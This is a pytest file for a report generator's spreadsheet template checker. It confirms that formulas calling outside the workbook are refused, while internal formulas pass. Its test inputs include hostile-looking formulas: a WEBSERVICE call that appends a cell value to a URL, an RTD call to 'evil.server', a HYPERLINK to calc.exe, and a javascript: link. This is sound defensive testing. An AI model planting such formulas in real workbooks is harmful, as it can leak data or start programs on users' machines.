"""Formulas that fetch or start something outside the workbook are refused at their cell; all others pass."""

from __future__ import annotations

import pytest

from reportgen.problem import ReportgenError
from reportgen.render import compile_xlsx
from tests import render_xlsx


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://example.org/?"&A1)',
        '=_xlfn.WEBSERVICE("http://example.org/")',
        '=IF(A1="x",RTD("evil.server",,"x"),0)',
        '=_xlfn.IMAGE("http://example.org/a.png")',
        "='file:///C:/so lieu/[khac.xlsx]Trang'!A1",
        "=SUM('[khac.xlsx]Trang'!A1:A3)",
        "=[1]Trang!A1",
        '=HYPERLINK("file:///C:/Windows/System32/calc.exe","x")',
        '=HYPERLINK("\\\\server\\share\\a.xlsx")',
        '=HYPERLINK("javascript:alert(1)")',
        '=CUBEVALUE("ketnoi","x")',
    ],
)
def test_a_formula_that_reaches_out_is_refused_at_its_cell(formula: str) -> None:
    with pytest.raises(ReportgenError) as refused:
        compile_xlsx(render_xlsx.template({"Trang": [["{{ ten }}", formula]]}), "mau.xlsx")
    assert {(p.code, p.where) for p in refused.value.problems} == {("MB007", "mau.xlsx, Trang!B1")}


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://example.org/","x")',
        '=HYPERLINK("mailto:a@example.org")',
        '=HYPERLINK("#Trang!A1","x")',
        "=HYPERLINK(A1)",
        '="WEBSERVICE("&A1&")"',
        "=\"'[khac.xlsx]Trang'!A1\"",
        "=SUM(A1:A3)",
        "='Trang'!A1",
    ],
)
def test_a_formula_that_stays_inside_passes(formula: str) -> None:
    compile_xlsx(render_xlsx.template({"Trang": [["{{ ten }}", formula]]}), "mau.xlsx").render({"ten": "x"})
